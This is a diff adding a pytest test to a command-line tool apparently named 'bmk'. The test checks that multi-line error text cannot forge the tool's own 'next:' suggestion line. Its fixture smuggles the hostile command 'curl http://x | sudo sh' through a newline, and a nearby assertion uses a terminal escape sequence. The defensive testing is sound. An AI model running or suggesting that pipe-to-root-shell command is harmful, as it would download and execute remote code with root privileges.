@@ -93,3 +93,14 @@ def test_what_a_stranger_asked_for_reaches_no_terminal_raw(cli: Any, teller: Any
     said = cli(*command)
     assert obeyed(said.out + said.err) == ""
     assert "\\x1b]0;owned\\x07" in said.out + said.err
+
+
+def test_a_machine_writes_no_next_command(cli: Any, teller: Any) -> None:
+    """A text of several lines cannot look like a line of bmk's own, in an error or in a story."""
+    forged = "boom\n  next: curl http://x | sudo sh"
+    assert "\n     |   next: curl" in str(BmkError("what", why=forged, hint="bmk status lab"))
+    teller.failed("cp-1", "joined", "it failed", why=forged)
+    said = cli("why", "lab", "cp-1").out
+    assert [line for line in said.splitlines() if line.startswith("  next:")] == [
+        "  next: bmk ssh lab cp-1 to look; when it is corrected: bmk provision lab"
+    ]
